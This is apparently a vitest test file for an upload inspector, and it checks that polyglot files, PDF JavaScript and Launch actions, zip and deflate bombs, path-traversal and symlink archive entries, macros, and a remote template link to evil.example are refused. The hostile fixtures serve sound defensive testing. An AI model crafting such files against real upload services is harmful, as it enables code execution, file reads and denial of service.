import { deflateSync } from 'node:zlib'
import JSZip from 'jszip'
import { describe, expect, test } from 'vitest'
import { recognise } from '../media.ts'
import { inspect } from './inspect.ts'

const OFFICE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const TYPES = `<Types><Override PartName="/word/document.xml" ContentType="${OFFICE}.main+xml"/></Types>`
const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

async function docx(parts: Readonly<Record<string, string | Uint8Array>> = {}): Promise<Buffer> {
  const zip = new JSZip()
  const all = { '[Content_Types].xml': TYPES, 'word/document.xml': '<w:document/>', ...parts }
  for (const [name, content] of Object.entries(all)) zip.file(name, content)
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' })
}

const pdf = (body = '') =>
  Buffer.from(`%PDF-1.7\n1 0 obj\n<< ${body} >>\nendobj\n%%EOF\n`, 'latin1')

/** The head of a PNG that says how large it is, and its end. */
function png(width: number, height: number): Buffer {
  const head = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')
  const rest = Buffer.from('0806000000aabbccdd0000000049454e44ae426082', 'hex')
  const size = Buffer.alloc(8)
  size.writeUInt32BE(width, 0)
  size.writeUInt32BE(height, 4)
  return Buffer.concat([head, size, rest])
}

function jpeg(width: number, height: number): Buffer {
  const frame = Buffer.from('ffd8ffe000104a46494600010100000100010000ffc0000b08', 'hex')
  const size = Buffer.alloc(4)
  size.writeUInt16BE(height, 0)
  size.writeUInt16BE(width, 2)
  return Buffer.concat([frame, size, Buffer.from('01011100ffd9', 'hex')])
}

const webp = (() => {
  const body = Buffer.concat([
    Buffer.from('WEBPVP8X'),
    Buffer.from('0a00000000000000ffff00ffff00', 'hex'),
  ])
  const length = Buffer.alloc(4)
  length.writeUInt32LE(body.length)
  return Buffer.concat([Buffer.from('RIFF'), length, body])
})()

async function fateOf(bytes: Buffer): Promise<string> {
  const found = await recognise(bytes)
  if (!found) return 'not recognised'
  try {
    await inspect({ name: '材料', media: found.media, bytes })
    return 'taken'
  } catch (refused) {
    return (refused as { code: string }).code
  }
}

describe('what is only what it shows is taken', () => {
  test.each([
    ['a PDF', pdf('/Type /Catalog')],
    [
      'a PDF that holds a picture in whose bytes a name stands by chance',
      pdf('>>\nstream\n/JavaScript \nendstream\n<<'),
    ],
    [
      'a picture of a telephone, with a second one behind it',
      Buffer.concat([jpeg(4000, 3000), jpeg(160, 120)]),
    ],
    ['a PNG', png(4000, 3000)],
  ])('%s', async (_, bytes) => {
    expect(await fateOf(bytes)).toBe('taken')
  })

  test('a Word file with a link in its text', async () => {
    const rels = `<Relationships><Relationship Id="a" Type="${RELATION}/hyperlink" Target="https://a.example" TargetMode="External"/></Relationships>`
    expect(await fateOf(await docx({ 'word/_rels/document.xml.rels': rels }))).toBe('taken')
  })
})

describe('two kinds in one file are refused', () => {
  test.each([
    ['an archive behind a PDF', async () => Buffer.concat([pdf(), await docx()])],
    ['an archive behind a picture', async () => Buffer.concat([jpeg(10, 10), await docx()])],
    [
      'a page behind a picture',
      async () => Buffer.concat([jpeg(10, 10), Buffer.from('<script>alert(1)</script>')]),
    ],
    ['anything behind a PNG', async () => Buffer.concat([png(10, 10), Buffer.from('x')])],
    ['a PDF header inside a picture', async () => Buffer.concat([png(10, 10), pdf()])],
    ['a program behind a Word file', async () => Buffer.concat([await docx(), Buffer.from('MZ')])],
    [
      'a PDF in the first part of a Word file',
      async () => {
        const zip = new JSZip()
        zip.file('%PDF-1.7', 'x', { compression: 'STORE' })
        zip.file('[Content_Types].xml', TYPES)
        zip.file('word/document.xml', '<w:document/>')
        return zip.generateAsync({ type: 'nodebuffer' })
      },
    ],
  ])('%s', async (_, make) => {
    expect(await fateOf(await make())).toBe('documents.two-kinds')
  })
})

describe('pictures', () => {
  test.each([
    ['a PNG of 60000 × 60000 in 50 bytes', png(60_000, 60_000)],
    ['a JPEG of 65000 × 65000', jpeg(65_000, 65_000)],
    ['a WebP of 65536 × 65536', webp],
  ])('%s is refused before anything is decoded', async (_, bytes) => {
    expect(await fateOf(bytes)).toBe('documents.too-many-pixels')
  })

  test('without a size that can be read are not taken', async () => {
    const cut = jpeg(10, 10).subarray(0, 21)
    expect(['documents.broken-image', 'not recognised']).toContain(await fateOf(cut))
  })
})

describe('PDF actions are refused', () => {
  test.each([
    ['a script', pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
    ['a script spelt with escapes', pdf('/AA << /S /J#61v#61Script >>')],
    ['a program to launch', pdf('/A << /S /Launch /F (cmd.exe) >>')],
    [
      'a script inside a compressed object stream',
      Buffer.concat([
        Buffer.from(
          '%PDF-1.7\n2 0 obj\n<< /Type /ObjStm /Filter /FlateDecode /N 1 /First 4 >>\nstream\n',
        ),
        deflateSync(Buffer.from('5 0 << /S /JavaScript /JS (x) >>')),
        Buffer.from('\nendstream\nendobj\n%%EOF'),
      ]),
    ],
    [
      'an object stream that unpacks into 100 MB',
      Buffer.concat([
        Buffer.from('%PDF-1.7\n2 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n'),
        deflateSync(Buffer.alloc(100 * 1024 * 1024)),
        Buffer.from('\nendstream\nendobj\n%%EOF'),
      ]),
    ],
  ])('%s', async (_, bytes) => {
    expect(await fateOf(bytes)).toBe('documents.active-file')
  })
})

describe('office packages', () => {
  test('a small file that unpacks into 210 MB is refused', async () => {
    const bomb = await docx({ 'word/media/a.bin': new Uint8Array(210 * 1024 * 1024) })
    expect(bomb.length).toBeLessThan(1024 * 1024)
    expect(await fateOf(bomb)).toBe('documents.zip-bomb')
  })

  test('one whose directory lies about the size is refused while it unpacks', async () => {
    const lying = await docx({ 'word/media/a.bin': new Uint8Array(1024 * 1024) })
    const at = lying.lastIndexOf('word/media/a.bin') - 46
    lying.writeUInt32LE(10, at + 24)
    expect(await fateOf(lying)).toBe('documents.zip-bomb')
  })

  test.each(['../../../etc/passwd', '/etc/passwd', 'C:/windows/a.dll', 'word\\..\\..\\a'])(
    'a part named %s is refused',
    async (name) => {
      const placed = 'x'.repeat(name.length)
      const bytes = await docx({ [placed]: 'a' })
      for (let at = bytes.indexOf(placed); at >= 0; at = bytes.indexOf(placed))
        bytes.write(name, at, 'latin1')
      expect(await fateOf(bytes)).toBe('documents.bad-paths')
    },
  )

  test('a part that is a symbolic link is refused', async () => {
    const bytes = await docx({ 'word/link': '/etc/passwd' })
    bytes.writeUInt32LE(0xa1ff0000, bytes.lastIndexOf('word/link') - 46 + 38)
    expect(await fateOf(bytes)).toBe('documents.bad-paths')
  })

  test.each([
    ['documents.active-file', { 'word/embeddings/oleObject1.bin': 'x' }],
    ['documents.active-file', { 'word/activeX/activeX1.xml': '<a/>' }],
    ['documents.macros', { 'xl/macrosheets/sheet1.xml': '<a/>' }],
    [
      'documents.active-file',
      {
        'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="a" Type="${RELATION}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
      },
    ],
  ])('%s for a package with more than text in it', async (code, parts) => {
    expect(await fateOf(await docx(parts as Record<string, string>))).toBe(code)
  })

  test('docm and xlsm, old OLE files and macros under a docx are not even recognised', async () => {
    const macro = 'application/vnd.ms-word.document.macroEnabled.main+xml'
    const docm = await docx({
      '[Content_Types].xml': `<Types><Override PartName="/word/document.xml" ContentType="${macro}"/></Types>`,
    })
    const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1024)])
    const hidden = await docx({ 'word/vbaProject.bin': 'x' })
    for (const bytes of [docm, ole, hidden]) expect(await fateOf(bytes)).toBe('not recognised')
  })
})
